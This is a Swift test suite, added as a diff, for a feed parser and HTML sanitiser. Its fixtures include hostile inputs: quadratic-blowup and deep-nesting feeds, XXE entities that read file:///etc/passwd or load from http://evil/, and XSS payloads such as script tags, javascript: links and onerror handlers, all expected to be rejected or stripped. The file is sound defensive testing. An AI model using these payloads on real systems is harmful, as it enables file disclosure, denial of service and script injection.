@@ -1,0 +1,217 @@
+import Glibc
+import QuireCore
+import QuireFeeds
+import QuirePagination
+import Testing
+
+@Suite("Feeds: hostile ones", .serialized)
+struct HostileTests {
+  /// An attack of a size.
+  struct Attack: Sendable, CustomTestStringConvertible {
+    let name: String
+    let size: Int
+    let text: @Sendable (Int) -> String
+
+    var testDescription: String { name }
+  }
+
+  private static func rss(_ item: String) -> String {
+    "<rss><channel><item>\(item)</item></channel></rss>"
+  }
+
+  static let attacks: [Attack] = [
+    Attack(name: "X1 entities") {
+      "<!DOCTYPE rss [<!ENTITY a 'aaaaaaaaaa'>]><rss>" + String(repeating: "&a;", count: $0)
+    },
+    Attack(name: "X1 entities behind an error") {
+      "<a & b><!DOCTYPE rss [<!ENTITY a 'b'>]><rss>" + String(repeating: "&a;", count: $0)
+    },
+    Attack(name: "X6 depth") { String(repeating: "<rss>", count: $0) },
+    Attack(name: "X6 depth, mended") { "<rss><a & >" + String(repeating: "<b c=d>", count: $0) },
+    Attack(name: "X7 attributes") { "<rss" + (0..<$0).map { " a\($0)=''" }.joined() + "/>" },
+    Attack(name: "X7 attributes, mended") { "<rss" + (0..<$0).map { " a\($0)=b" }.joined() + "/>" },
+    Attack(name: "X8 names") { rss("&" + (0..<$0).map { "<n\($0)/>" }.joined()) },
+    Attack(name: "X15 stray end tags") { rss("&" + String(repeating: "</b>", count: $0)) },
+    Attack(name: "X15 elements that are never closed") {
+      rss("<title>&" + String(repeating: "<item><b>", count: $0))
+    },
+    Attack(name: "X15 brackets") {
+      rss("<title>" + String(repeating: "< ", count: $0) + "</title>")
+    },
+    Attack(name: "X15 ampersands") {
+      rss("<title>" + String(repeating: "&", count: $0) + "</title>")
+    },
+    Attack(name: "X15 comments without end") { rss("&" + String(repeating: "<!-- ", count: $0)) },
+    Attack(name: "X15 sections without end") {
+      rss("&" + String(repeating: "<![CDATA[", count: $0))
+    },
+    Attack(name: "X15 quotes without end") { rss("&" + String(repeating: "<a b=\"", count: $0)) },
+    Attack(name: "X17 prefixes") { rss((0..<$0).map { "<p\($0):a/>" }.joined()) },
+    Attack(name: "X13 text before") { String(repeating: "< x <a ", count: $0) + rss("") },
+    Attack(name: "X19 entries") { count in
+      "<rss><channel>" + String(repeating: "<item/>", count: count) + "</channel></rss>"
+    },
+    Attack(name: "markup in a title") {
+      rss("<title>" + String(repeating: "&lt;b ", count: $0) + "</title>")
+    },
+    Attack(name: "keywords") {
+      rss("<category>" + String(repeating: "a,", count: $0) + "</category>")
+    },
+    Attack(name: "dates") { rss("<pubDate>" + String(repeating: "1 ", count: $0) + "</pubDate>") },
+    Attack(name: "JSON depth") { "{\"a\":" + String(repeating: "[", count: $0) },
+    Attack(name: "JSON items") {
+      "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":["
+        + [String](repeating: "{\"id\":1}", count: $0).joined(separator: ",") + "]}"
+    },
+  ]
+
+  private func time(_ bytes: [UInt8], _ options: FeedOptions) -> Double {
+    (0..<3).map { _ in
+      var start = timespec()
+      var end = timespec()
+      clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start)
+      _ = try? ParsedFeed(bytes, options: options)
+      clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end)
+      return Double(end.tv_sec - start.tv_sec) + Double(end.tv_nsec - start.tv_nsec) / 1e9
+    }.min() ?? 0
+  }
+
+  @Test("Q5: what a hostile feed costs grows with its length, and not faster", arguments: attacks)
+  func linear(attack: Attack) {
+    let options = FeedOptions(html: .sanitized)
+    let once = time(Array(attack.text(attack.size).utf8), options)
+    let four = time(Array(attack.text(attack.size * 4).utf8), options)
+    // Four times the length: a square would be sixteen times. What takes no time says nothing.
+    #expect(four < max(once * 8, 0.004), "\(attack.name): \(once) s, then \(four) s")
+  }
+
+  @Test(
+    "Z1, X9: HTML of every shape is sanitised and made plain in linear time",
+    arguments: [
+      "<", "<a", "<a href=\"", "<!--", "</", "&", "&lt", "<b>", "<script>", "</b>", "<p x=y ",
+      "<svg/onload=x>",
+    ])
+  func html(piece: String) {
+    let sanitizer = HTMLSanitizer()
+    func cost(_ count: Int) -> Double {
+      let text = FeedText(
+        String(repeating: piece, count: count), kind: .html, base: "https://a.test/")
+      return (0..<3).map { _ in
+        var start = timespec()
+        var end = timespec()
+        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &start)
+        _ = text.plain
+        _ = sanitizer.sanitize(text.value, base: text.base)
+        _ = text.withAbsoluteLinks()
+        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &end)
+        return Double(end.tv_sec - start.tv_sec) + Double(end.tv_nsec - start.tv_nsec) / 1e9
+      }.min() ?? 0
+    }
+    let once = cost(2_000)
+    let four = cost(8_000)
+    #expect(four < max(once * 8, 0.004), "\(piece): \(once) s, then \(four) s")
+  }
+
+  @Test(
+    "X1, X3, X4: a feed that declares or loads entities is refused, by the strict and by the lenient"
+  )
+  func entities() {
+    for text in [
+      "<!DOCTYPE rss [<!ENTITY a 'b'>]><rss><channel><title>&a;</title></channel></rss>",
+      "<!DOCTYPE rss [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><rss><channel><title>&a;</title></channel></rss>",
+      "<!DOCTYPE rss [<!ENTITY % a SYSTEM 'http://evil/'> %a;]><rss/>",
+      "junk <!DOCTYPE rss [<!ENTITY a 'b'>]><rss><channel><title>& &a;</title></channel></rss>",
+    ] {
+      for isStrict in [true, false] {
+        let error = #expect(throws: PageError.self, "\(text)") {
+          try parsed(text, at: nil, FeedOptions(isStrict: isStrict))
+        }
+        #expect(error?.code == .malformed)
+      }
+    }
+  }
+
+  @Test("X6, X19: depth and entries have limits that are named")
+  func limits() {
+    let deep = "<rss><channel><title>" + String(repeating: "<b>", count: 100)
+    #expect(throws: PageError.self) { try parsed(deep) }
+    let many = "<rss><channel>" + String(repeating: "<item/>", count: 11) + "</channel></rss>"
+    let error = #expect(throws: PageError.self) {
+      try parsed(many, at: nil, FeedOptions(limits: DecodingLimits(items: 10)))
+    }
+    #expect(error?.code == .limitExceeded)
+  }
+
+  @Test(
+    "17-Html: nothing that runs, loads unseen or escapes survives sanitising",
+    arguments: [
+      ("<p onclick=x>a</p>", "<p>a</p>"),
+      ("<script>alert(1)</script>b", "b"), ("<SCRIPT SRC=//e/x.js></SCRIPT>b", "b"),
+      ("<style>p{}</style>b", "b"), ("<iframe src=//e></iframe>b", "b"),
+      ("<a href='javascript:alert(1)'>x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>"),
+      ("<a href=' java\nscript:alert(1)'>x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>"),
+      ("<a href='&#106;avascript:alert(1)'>x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>"),
+      ("<a href=/x>y", "<a href=\"https://a.test/x\" rel=\"noopener noreferrer nofollow\">y</a>"),
+      ("<img src=i.png onerror=x>", "<img src=\"https://a.test/d/i.png\">"),
+      ("<img src='data:text/html,x'>", "<img>"),
+      (
+        "<svg><a xlink:href='javascript:x'>t</a></svg>",
+        "<a rel=\"noopener noreferrer nofollow\">t</a>"
+      ),
+      ("</div></article><b>x", "<b>x</b>"), ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
+      ("1 < 2 & <3", "1 &lt; 2 &amp; &lt;3"), ("<!-- x --><?php y ?>z", "z"),
+      ("<p style='background:url(x)' class=c id=i>x</p>", "<p>x</p>"),
+      ("<form action=x><input name=y><button>z</button></form>", "z"),
+      ("<img srcset='a.png 1x, javascript:x 2x'>", "<img srcset=\"https://a.test/d/a.png 1x\">"),
+      ("<math><mi xlink:href='data:x'>", ""),
+      (
+        "<a title='\"><script>x</script>'>y</a>",
+        "<a title=\"&quot;&gt;&lt;script&gt;x&lt;/script&gt;\" rel=\"noopener noreferrer nofollow\">y</a>"
+      ),
+      ("<plaintext>x<b>y", ""), ("<meta http-equiv=refresh content=0>x", "x"),
+      ("<base href=//e/>x", "x"),
+      ("<img/src=x/onerror=y>", "<img src=\"https://a.test/d/x/onerror=y\">"),
+    ])
+  func sanitized(html: String, expected: String) {
+    let result = HTMLSanitizer().sanitize(html, base: "https://a.test/d/")
+    #expect(result == expected)
+    #expect(HTMLSanitizer().sanitize(result, base: "https://a.test/d/") == result)
+  }
+
+  @Test(
+    "17-Html: HTML is handed out as it is, with absolute links by choice, and sanitised by choice")
+  func choices() throws {
+    let html = "<p onclick=x><a href='/b?c&amp;d'>x</a> <img src=i.png></p>"
+    let escaped = html.replacing("&", with: "&amp;").replacing("<", with: "&lt;")
+    let text = "<rss><channel><item><description>\(escaped)</description></item></channel></rss>"
+    func summary(_ html: FeedOptions.HTML) throws -> String? {
+      try parsed(text, at: "https://a.test/f/", FeedOptions(html: html)).entries[0].summary?.value
+    }
+    #expect(try summary(.asWritten) == html)
+    #expect(
+      try summary(.absoluteLinks)
+        == "<p onclick=x><a href='https://a.test/b?c&amp;d'>x</a> <img src=\"https://a.test/f/i.png\"></p>"
+    )
+    #expect(
+      try summary(.sanitized)
+        == "<p><a href=\"https://a.test/b?c&amp;d\" rel=\"noopener noreferrer nofollow\">x</a> <img src=\"https://a.test/f/i.png\"></p>"
+    )
+  }
+
+  @Test("R11: an address that would run something is no address")
+  func addresses() throws {
+    let document = try parsed(
+      "<rss><channel><link>javascript:alert(1)</link><item><link> vbscript:x</link><guid>data:text/html,x</guid></item></channel></rss>"
+    )
+    #expect(document.feed.url == nil && document.entries[0].url == nil)
+    #expect(document.feed.repairs.map(\.kind) == [.badAddress])
+    let spaces = try parsed("<rss><channel><link>\n http://e.org/a b\n </link></channel></rss>")
+    #expect(spaces.feed.url == "http://e.org/a%20b")
+  }
+}
+
+extension HostileTests.Attack {
+  init(name: String, text: @escaping @Sendable (Int) -> String) {
+    self.init(name: name, size: 5_000, text: text)
+  }
+}
